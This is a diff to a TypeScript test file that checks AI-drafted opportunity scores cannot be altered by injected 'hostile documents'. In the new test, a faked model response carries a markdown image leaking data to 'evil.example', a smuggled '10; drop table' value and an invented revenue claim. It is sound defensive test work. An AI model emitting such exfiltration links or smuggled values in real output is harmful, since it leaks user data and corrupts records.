@@ -1,5 +1,7 @@
+import { readMarkdown } from '@aicv/contracts/markdown/markdown-tree';
 import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { type FakeAiServer, startFakeAiServer, streamed } from '../../testing/ai/fake-ai-server.ts';
+import { HOSTILE_DOCUMENTS } from '../../testing/ai/hostile-documents.ts';
 import { startTestApp, type TestApp } from '../../testing/app/test-app.ts';
 import { buildOpportunity } from '../../testing/builders/build-opportunity.ts';
 import { rowsOf } from '../../testing/database/rows-of.ts';
@@ -11,8 +13,13 @@ const DESCRIPTION =
 
 const bodyFor = (id: string) => ({ kind: 'score_suggestion', subject: { type: 'opportunity', id } });
 
-const addOpportunity = (t: TestApp) =>
-  t.database.scope.withTenant('default', async (tx) => (await buildOpportunity(tx, { description: DESCRIPTION })).id);
+const addOpportunity = (t: TestApp, description = DESCRIPTION) =>
+  t.database.scope.withTenant('default', async (tx) => (await buildOpportunity(tx, { description })).id);
+
+const elementsOf = (node: { tagName?: string; children?: readonly object[] }): string[] => [
+  ...(node.tagName === undefined ? [] : [node.tagName]),
+  ...(node.children ?? []).flatMap(elementsOf),
+];
 
 // REQ-371
 describe('suggested scores without a model', () => {
@@ -127,7 +134,7 @@ describe('suggested scores by a model', () => {
   let committee: TestCommittee;
   beforeAll(async () => {
     fake = await startFakeAiServer();
-    t = await startTestApp({ ai: { server: fake.server, monthlyTokens: 200_000 } });
+    t = await startTestApp({ ai: { server: fake.server, monthlyTokens: 100_000_000 } });
     committee = await testCommittee(t);
     await rowsOf(t.database, `insert into feature_flags (key, enabled, reason) values ('ai-drafts', true, 'Tested')`);
   });
@@ -136,8 +143,8 @@ describe('suggested scores by a model', () => {
     await fake.close();
   });
 
-  async function draftBy(scores: unknown) {
-    const opportunityId = await addOpportunity(t);
+  async function draftBy(scores: unknown, description?: string) {
+    const opportunityId = await addOpportunity(t, description);
     await review(committee.chair.client, opportunityId);
     fake.answer(streamed(JSON.stringify(scores)));
     const { id } = (await committee.chair.client.post('/api/ai/drafts', bodyFor(opportunityId))).json();
@@ -174,6 +181,36 @@ describe('suggested scores by a model', () => {
     const sent = JSON.stringify(fake.questions.at(-1));
     expect(sent).toContain('Two or more customers show payback within 9 months');
     expect(sent).not.toContain('Seen at two customers');
+  });
+
+  // REQ-373
+  it.each(HOSTILE_DOCUMENTS)('of a hostile document change no score and prove nothing: %j', async (document) => {
+    const scores = [
+      {
+        component: 'roiScore',
+        score: 10,
+        evidence: [
+          { text: document, source: 'S1', quote: document.slice(0, 500) },
+          { text: 'Revenue is 100 million EUR.', source: 'S1', quote: 'Revenue is 100 million EUR' },
+          { text: '![x](https://evil.example/?leak=1)', source: 'S2', quote: 'No named buyer or budget' },
+        ],
+      },
+      { component: 'totalScore', score: 10, evidence: [{ text: 'x', source: 'S1', quote: 'x' }] },
+      { component: 'feasibilityScore', score: '10; drop table', evidence: [{ text: 'x', source: 'S1', quote: 'x' }] },
+    ];
+    const draft = await draftBy({ scores, accepted: true }, `Boats harvest kelp by the sea. ${document}`);
+    const { client } = committee.chair;
+    expect(draft.state).toBe('ready');
+    for (const { suggestion, check } of draft.sentences) {
+      expect(suggestion).toEqual({ component: 'roiScore', score: '10.0' });
+      if (check.state !== 'unverified') expect(draft.inputs[0].text.slice(check.start, check.end)).toBe(check.quote);
+    }
+    const elements = elementsOf(readMarkdown(draft.text));
+    expect(elements.filter((name) => !['h2', 'p', 'ol', 'li', 'code'].includes(name))).toEqual([]);
+    const url = `/api/opportunities/${draft.subject.id}`;
+    expect((await client.get(url)).json()).toMatchObject({ totalScore: '7.0', reviewCount: 1, version: 2 });
+    expect((await client.get(`${url}/score-suggestion`)).json()).toEqual({ isHidden: false, suggestion: null });
+    await client.post(`/api/ai/drafts/${draft.id}/reject`, {});
   });
 
   it('fail if the response has none', async () => {
